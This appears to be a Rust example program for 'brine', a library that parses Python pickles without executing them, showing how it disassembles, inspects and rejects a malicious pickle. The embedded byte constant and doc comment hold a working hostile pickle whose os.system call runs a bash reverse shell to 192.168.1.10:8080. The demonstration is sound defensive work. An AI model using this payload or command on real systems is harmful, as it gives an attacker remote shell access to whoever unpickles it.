//! The tutorial's "Security Concerns": the pickle whose `__setstate__` opens a remote shell.
//! brine loads it safely (nothing runs) and shows what it would have done.
//!
//! Run with `cargo run -p brine --example hostile`.

use brine::{Graph, Node, Value};

/// What Python's `pickle.dumps` writes for an object whose `__reduce__` returns
/// `(os.system, ("/bin/bash -c '/bin/bash -i >& /dev/tcp/192.168.1.10/8080 0>&1'",))`,
/// the usual shape of the tutorial's attack.
const HOSTILE: &[u8] = b"\x80\x04\x95Y\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c>/bin/bash -c '/bin/bash -i >& /dev/tcp/192.168.1.10/8080 0>&1'\x94\x85\x94R\x94.";

/// Lists every call the pickle asks for, with its arguments.
fn calls(graph: &Graph) -> Vec<String> {
    let mut found = Vec::new();
    for (_, node) in graph.nodes() {
        let (callable, args) = match node {
            Node::Reduce { callable, args } => (callable, args),
            Node::NewObj { cls, args, .. } => (cls, args),
            _ => continue,
        };
        let name = graph
            .get(callable)
            .as_global()
            .map(|(module, name)| format!("{module}.{name}"))
            .unwrap_or_else(|| "<computed callable>".to_owned());
        let mut arg_graph = graph.clone();
        arg_graph.set_root(*args);
        found.push(format!("{name}{arg_graph:?}"));
    }
    found
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut text = Vec::new();
    brine::dis(HOSTILE, &mut text, &Default::default())?;
    println!("the pickle, disassembled:\n{}", String::from_utf8(text)?);

    let graph = brine::loads(HOSTILE)?;
    println!("loaded without running anything: {graph:?}");
    for call in calls(&graph) {
        println!("Python's pickle.loads would call: {call}");
    }
    assert!(matches!(graph.root().node(), Some(Node::Reduce { .. })));
    assert!(matches!(graph.root_value(), Value::Node(_)));

    // An allow-list refuses it outright, naming the global.
    let policy = brine::FindClass::AllowList(brine::AllowList::new().module("collections"));
    match brine::Unpickler::new().find_class(policy).loads(HOSTILE) {
        Ok(_) => println!("allowed (this must never happen)"),
        Err(err) => println!("with an allow-list: {err}"),
    }
    Ok(())
}
